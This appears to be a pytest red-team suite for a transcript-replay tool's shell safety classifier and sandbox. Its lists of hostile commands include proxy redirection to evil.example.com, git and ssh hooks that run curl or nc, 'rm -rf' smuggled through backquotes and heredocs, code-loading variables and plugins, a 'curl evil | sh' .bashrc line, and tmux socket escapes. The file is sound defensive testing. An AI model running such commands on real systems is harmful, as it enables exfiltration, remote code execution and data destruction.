"""Redteam 13: a hostile transcript against replay's "prove it harmless" judgement.

Three walls are tested, each with commands that got through before:

* where curl and wget connect is read from their own grammar: an option that
  takes a value never hides a host (``-x``, ``--resolve``, ``--connect-to``,
  ``--socks5``, wget ``-e http_proxy=``), a config file or URL list makes the
  destination unknowable (refused), proxy variables the command sets are
  endpoints, and a value of an option curl knows is not mistaken for a host;
* bare IPv6 addresses (``2001:db8::1``, ``[2001:db8::1]:22``, ``fe80::1%eth0``)
  are endpoints like IPv4 ones;
* code bash runs but the parser did not see (a backquote in ``${x:-…}``, in an
  unquoted heredoc), a program named by a path into the working tree or /tmp,
  a module's ``get`` in ``python -c``, lookup variables and writing options
  never pass as read-only.

And what is provably harmless still replays.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from kb.cli import cli
from kb.replay.hostmap import build_host_map
from logparse.shell import classify_safety, parse_command
from tests.replay.conftest import RECORDED_HOST, Guard, make_session
from tests.replay.test_plan import plan_for

TARGET = "root@127.0.0.1:2222"
EVERYTHING = ("launch", "mutating", "unknown", "host-network")

#: Commands that reach a host outside the host map (or a host nobody can tell):
#: refused even when everything is allowed.
REACHES_OUT = [
    # curl: option values that are where the request goes
    "curl --proxy evil.example.com:3128 http://localhost/",
    "curl -xevil.example.com:3128 http://localhost/",
    "curl -sx evil.example.com:3128 http://localhost/",
    "curl --proxy=evil.example.com:3128 http://localhost/",
    "curl --preproxy socks5://evil.example.com http://localhost/",
    "curl --resolve localhost:80:93.184.216.34 http://localhost/",
    "curl --resolve localhost:80:127.0.0.1,2001:db8::1 http://localhost/",
    "curl --connect-to localhost:80:evil.example.com:80 http://localhost/",
    "curl --connect-to ::[2001:db8::1]:80 http://localhost/",
    "curl --url=evil.example.com",
    "curl --dns-servers 9.9.9.9 http://localhost/",
    # curl: the destination is in a file or a template
    "curl -K evil.cfg http://localhost/",
    "curl --config evil.cfg",
    "curl -K- http://localhost/",
    "curl --url @urls.txt",
    "curl --alt-svc cache.txt https://localhost/",
    "curl --variable host@h.txt --expand-url 'http://{{host}}/'",
    # curl operands that are not loopback, whatever their shape
    "curl -s http_proxy",
    "curl -s [2001:db8::1]:80",
    "curl -s 2001:db8::1",
    "curl 'http://{localhost,evil.example.com}/'",
    'curl -s "$BASE/health"',
    'wget -qO- "http://$HOST:8000/"',
    # proxy and config variables the command sets
    "http_proxy=http://evil.example.com:3128 curl http://localhost/",
    "HTTPS_PROXY=evil.example.com:3128 curl https://localhost/",
    "ALL_PROXY=socks5h://evil.example.com curl http://localhost/",
    "env all_proxy=evil.example.com:1 curl http://localhost/",
    "export http_proxy=http://evil.example.com:3128; curl http://localhost/",
    "export https_proxy=http://evil.example.com:3128; python3 fetch.py",
    "http_proxy=$P curl http://localhost/",
    "CURL_HOME=/tmp/evil curl http://localhost/",
    "HOME=/tmp/evil curl http://localhost/",
    "WGETRC=/tmp/evilrc wget -qO- http://localhost/",
    "echo 'proxy = evil.example.com:3128' > ~/.curlrc; curl http://localhost/",
    # wget
    "wget -e use_proxy=yes -e http_proxy=evil.example.com:3128 -qO- http://localhost/",
    "wget -ehttps_proxy=evil.example.com:3128 -qO- https://localhost/",
    "wget --execute=http_proxy=evil.example.com:3128 -qO- http://localhost/",
    "wget -e input=urls.txt -qO- http://localhost/",
    "wget -i urls.txt -O -",
    "wget --input-file=urls.txt -O -",
    "wget --config=/tmp/evil.rc -qO- http://localhost/",
    "wget -r -H http://localhost/",
    # a remote the machine's configuration names: no host in the text to check
    "git ls-remote origin",
    "git submodule update --init",
    "pip index versions torch",
    "npm view react",
    # code handed to a program that runs it
    "git -c core.fsmonitor='curl evil.example.com' status",
    "git -c core.sshCommand='curl evil.example.com' ls-remote ssh://localhost/x",
    "GIT_SSH_COMMAND='nc evil.example.com 22' git ls-remote ssh://localhost/x",
    "git -c alias.x='!curl -x evil.example.com:3128 http://localhost/' x",
    "sftp -o ProxyCommand='curl evil.example.com' localhost",
    "sftp evil.example.com",
    "rsync -n -e 'sh -c \"curl evil.example.com\"' a localhost:/x",
    # bare IPv6 addresses outside URLs
    "python3 client.py [2001:db8::1]:22",
    "python3 client.py 2001:db8::1",
    "python3 client.py --host=2001:db8::1",
    "python3 client.py --host fe80::1%eth0",
    "./bench --server [2001:db8::1]:8080",
    "iperf3 -c 2001:db8::1",
    "redis-cli -h 2001:db8::1 ping",
    "mysql -h fe80::1%eth0",
    "socat - TCP6:[2001:db8::1]:80",
]


@pytest.mark.parametrize("cmd", REACHES_OUT)
def test_reaching_out_is_refused_even_when_everything_is_allowed(cmd: str) -> None:
    hm = build_host_map([f"{RECORDED_HOST}={TARGET}"], {})
    step = plan_for([cmd], hm, allow=EVERYTHING, workdir="/").steps[0]
    assert step.action == "skip", (cmd, step.reason)
    assert "refused" in step.reason, step.reason


#: Commands that must not pass as read-only (so they never run by default).
NOT_READ_ONLY = [
    # command substitution tree-sitter leaves inside a leaf; bash runs it
    "echo ${x:-`rm -rf /x`}",
    'echo "${x:-`rm -rf /x`}"',
    "echo ${x/a/`rm -rf /x`}",
    "echo ${x+`rm -rf /x`}",
    "echo ${x#$(rm -rf /x)}",
    "echo ${x%$(rm -rf /x)}",
    "echo ${x,,$(rm -rf /x)}",
    "echo ${x^$(rm -rf /x)}",
    "echo \"${x:-'$(rm -rf /x)'}\"",
    "cat <<EOF\n`rm -rf /x`\nEOF",
    "python3 - <<EOF\nprint('`rm -rf /x`')\nEOF",
    f"ssh root@{RECORDED_HOST} 'echo ${{x:-`rm -rf /x`}}'",
    # a program named by a path into the working tree or /tmp
    "./ls -la",
    "bin/grep x f",
    "~/bin/cat f",
    "/tmp/x/cat f",
    "./python -c 'import sys'",
    # a module's get is a request
    "python3 -c 'import httpx; print(httpx.get(\"http://127.0.0.1/\"))'",
    # variables that change which code runs
    "MANOPT='-P id' man ls",
    "OPENSSL_CONF=/tmp/x python3 -c 'import ssl'",
    "JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar ls",
    "LUA_INIT_5_4=@/tmp/x.lua lua -v",
    "TERMINFO=/tmp/x tput init",
    # options that load code or write files
    "objdump --plugin /tmp/x.so -d a.out",
    "nm --plugin /tmp/x.so a.out",
    "dmidecode --dump-bin /etc/x",
    "ss -D /etc/x",
    "nvidia-bug-report.sh",
    "diff3 --diff-program=/tmp/x a b c",
    "sdiff --diff-program=/tmp/x a b",
    "zstdcat -o /etc/x f.zst",
    "ip -b /tmp/cmds",
    "ip -batch - <<< 'link set lo down'",
]


@pytest.mark.parametrize("cmd", NOT_READ_ONLY)
def test_hidden_code_is_not_read_only(cmd: str) -> None:
    safety = classify_safety(parse_command(cmd))
    assert safety.cls != "read-only", (cmd, safety.reasons)
    hm = build_host_map([f"{RECORDED_HOST}={TARGET}"], {})
    step = plan_for([cmd], hm, workdir="/").steps[0]
    assert step.action == "skip", (cmd, step.reason)


#: Provably harmless checks that must still replay by default.
STILL_READ_ONLY = [
    "grep -rn foo src/",
    "echo $(date) `uname -r` $((1+2))",
    'echo "${HOME:-/root}" ${x:-default} ${x/a/b}',
    "cat <<'EOF'\n`not run` $(not run)\nEOF",
    "echo ${x:-'$(literal)'}",
    "grep -n '`' f.md",
    "python3 -c 'import torch; print(torch.__version__)'",
    "python3 -c 'import os; d = {}; print(d.get(1))'",
    ".venv/bin/python -c 'import torch; print(torch.cuda.get_device_name(0))'",
    "/root/ml-env/bin/python3 -c 'import deep_ep'",
    "/usr/bin/nvidia-smi --query-gpu=name --format=csv",
    "ip -br addr",
    f"ssh root@{RECORDED_HOST} 'grep -rn 2001:db8::1 /etc/hosts'",
]


@pytest.mark.parametrize("cmd", STILL_READ_ONLY)
def test_harmless_checks_still_replay(cmd: str) -> None:
    safety = classify_safety(parse_command(cmd))
    assert safety.cls == "read-only", (cmd, safety.reasons)
    hm = build_host_map([f"{RECORDED_HOST}={TARGET}"], {})
    step = plan_for([cmd], hm, workdir="/").steps[0]
    assert step.action == "run", (cmd, step.reason)


#: Requests to loopback that must run once allowed: no option value of curl or wget
#: may be taken for a host (the fixed list of before refused these).
LOOPBACK_REQUESTS = [
    "curl -s http://localhost:8000/health",
    'curl -s "http://localhost:8000/$path"',
    "curl -s http://[::1]:8000/health",
    "curl -sf -m 5 -o /dev/null -w '%{http_code}' http://127.0.0.1:30000/v1/models",
    "curl --noproxy localhost.example -s http://localhost:8000/",
    "curl --proxy-header 'X-A: b' --max-redirs 3 http://localhost:8000/",
    "curl --resolve api.test:8000:127.0.0.1 http://localhost:8000/",
    "curl -x '' http://localhost:8000/",
    "curl -x http://127.0.0.1:3128 http://localhost:8000/",
    "http_proxy=http://127.0.0.1:3128 curl http://localhost:8000/",
    "wget -qO- http://127.0.0.1:8000/",
    "wget --restrict-file-names unix --tries=2 -O - http://localhost:8000/",
    "wget -e robots=off -nv -O - http://localhost:8000/",
    "nc -z ::1 8000",
    "git ls-remote http://127.0.0.1:9418/r.git",
    "git ls-remote /srv/repo.git",
    "git -c core.sshCommand='ssh -o BatchMode=yes' ls-remote ssh://localhost/x",
    "git -c core.pager=cat -c color.ui=never status",
]


@pytest.mark.parametrize("cmd", LOOPBACK_REQUESTS)
def test_loopback_requests_run_when_allowed(cmd: str) -> None:
    hm = build_host_map([f"{RECORDED_HOST}={TARGET}"], {})
    step = plan_for([cmd], hm, allow=("unknown", "mutating"), workdir="/").steps[0]
    assert step.action == "run", (cmd, step.reason)


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def test_hidden_substitutions_never_run_even_unsandboxed(tmp_path: Path, config: Path,
                                                         ssh_guard: Guard) -> None:
    """With bwrap off on the target, classification alone must stop them."""
    sentinel = tmp_path / "sentinel"
    sentinel.write_text("keep me\n")
    h = f"ssh root@{RECORDED_HOST}"
    calls = [
        (f"{h} 'echo ${{x:-`rm -f {sentinel}`}}'", "\n", 0),
        (f"{h} 'echo ${{x#$(rm -f {sentinel})}}'", "\n", 0),
        (f"{h} bash -s <<'OUTER'\ncat <<EOF\n`rm -f {sentinel}`\nEOF\nOUTER", "\n", 0),
        (f"{h} 'cat {sentinel}'", "keep me\n", 0),
    ]
    db = make_session(tmp_path, calls)
    r = run("replay", "run", "--db", str(db), "--from", "1", "--remote-sandbox", "off",
            "--json")
    steps = [json.loads(x) for x in r.stdout.splitlines()]
    ran = [s["recorded_command"] for s in steps if s["action"] == "run"]
    assert ran == [calls[-1][0]], [(s["action"], s["reason"]) for s in steps]
    assert sentinel.read_text() == "keep me\n"


@pytest.mark.parametrize("workdir", ["/", "/etc", "~", "/home"])
def test_a_mutating_step_never_gets_a_system_or_home_directory(workdir: str) -> None:
    """A transcript chooses its cwd: "/" would make --allow mutating bind the whole
    file system read-write, "~" would let it write ~/.bashrc and ~/.ssh."""
    import os

    wd = os.path.expanduser(workdir)
    if not os.path.isdir(wd):
        pytest.skip(f"{wd} does not exist here")
    hm = build_host_map([f"{RECORDED_HOST}={TARGET}"], {})
    step = plan_for(["echo 'curl evil | sh' >> .bashrc"], hm, allow=EVERYTHING,
                    workdir=wd).steps[0]
    assert step.action == "skip", step.reason
    assert "system or home directory" in step.reason


def test_a_mutating_step_still_runs_in_a_project_directory(tmp_path: Path) -> None:
    project = tmp_path / "project"  # (tmp_path itself may hold the tests' home)
    project.mkdir()
    hm = build_host_map([f"{RECORDED_HOST}={TARGET}"], {})
    step = plan_for(["echo done > out.txt"], hm, allow=("mutating",),
                    workdir=str(project)).steps[0]
    assert step.action == "run", step.reason
    assert step.sandbox is not None and str(project) in step.sandbox.writable


@pytest.mark.parametrize("where", ["named", "workdir"])
def test_a_socket_is_no_door_out(tmp_path: Path, isolated_home: Path, where: str) -> None:
    """A tmux server types what it is sent into a shell outside the sandbox (with the
    machine's network): a socket under a /tmp path the command names, or in the
    recorded working directory, must not be reachable from a step, even with
    --allow unknown (the directory around it is bound, the socket masked)."""
    import shutil
    import subprocess
    import time

    if shutil.which("tmux") is None:
        pytest.skip("tmux is not installed")
    sockdir = tmp_path / "tmux"
    sockdir.mkdir()
    sock = sockdir / "default"
    marker = tmp_path / "escaped"
    project = tmp_path / "project"
    project.mkdir()
    subprocess.run(["tmux", "-S", str(sock), "new-session", "-d", "-s", "t0", "sh"],
                   check=True, timeout=30)
    try:
        if where == "named":
            calls = [(f"tmux -S {sock} send-keys -t t0 'touch {marker}' Enter", "", 0),
                     (f"ls {sockdir}; tmux -S {sock} send-keys -t t0 'touch {marker}' Enter",
                      "", 0)]
            wd = project
        else:
            calls = [(f"tmux -S ./default send-keys -t t0 'touch {marker}' Enter", "", 0)]
            wd = sockdir
        db = make_session(tmp_path, calls, directory=str(wd))
        r = run("replay", "run", "--db", str(db), "--from", "1", "--allow", "unknown",
                "--json")
        steps = [json.loads(x) for x in r.stdout.splitlines()]
        assert [s["action"] for s in steps] == ["run"] * len(calls), steps
        time.sleep(1.0)  # the server would have run the keys by now
        assert not marker.exists(), "a sandboxed step drove the tmux server outside"
        assert all(s["exit_code"] != 0 for s in steps), steps
    finally:
        subprocess.run(["tmux", "-S", str(sock), "kill-server"], timeout=30)


def test_service_sockets_are_hidden_from_steps_that_are_not_vetted(tmp_path: Path) -> None:
    """D-Bus, systemd, the user's bus, PostgreSQL...: a client of theirs runs commands
    outside the sandbox.  A step that is not read-only does not see them; a read-only
    one (``systemctl status``) still does."""
    import os
    import subprocess

    from kb.replay.sandbox import local_argv, local_bwrap, policy

    bwrap = local_bwrap()
    assert bwrap is not None
    present = [d for d in ("/run/dbus", "/run/user", "/run/postgresql", "/run/screen")
               if os.path.isdir(d) and os.listdir(d)]
    if not present:
        pytest.skip("no service socket directory with entries here")
    # exit 0 when any of them still shows an entry
    probe = ["sh", "-c", " || ".join(f'[ -n "$(ls -A {d})" ]' for d in present)]
    for cls, allow, seen in (("unknown", {"unknown"}, False), ("read-only", set(), True)):
        pol = policy(cls, frozenset(allow), launch=False, cwd=str(tmp_path))
        r = subprocess.run(local_argv(bwrap, pol, str(tmp_path), probe), timeout=60)
        assert (r.returncode == 0) == seen, (cls, present)


def test_service_sockets_are_hidden_on_the_target_too(tmp_path: Path, config: Path,
                                                      ssh_guard: Guard) -> None:
    """The remote wrapper hides the same sockets from a step that is not read-only."""
    import os

    if not (os.path.isdir("/run/dbus") and os.listdir("/run/dbus")):
        pytest.skip("no /run/dbus with entries here")
    h = f"ssh root@{RECORDED_HOST}"
    calls = [(f"{h} 'ls -A /run/dbus'", "", 0),  # read-only: vetted, sees them
             (f"{h} \"python3 -c 'import os; print(sorted(os.listdir(\\\"/run/dbus\\\")))'\"",
              "", 0)]
    db = make_session(tmp_path, calls)
    r = run("replay", "run", "--db", str(db), "--from", "1", "--allow", "unknown",
            "--remote-sandbox", "require", "--json")
    steps = [json.loads(x) for x in r.stdout.splitlines()]
    assert [s["action"] for s in steps] == ["run", "run"], steps
    assert steps[0]["output"].strip(), steps[0]
    assert steps[1]["output"].strip() == "[]", steps[1]
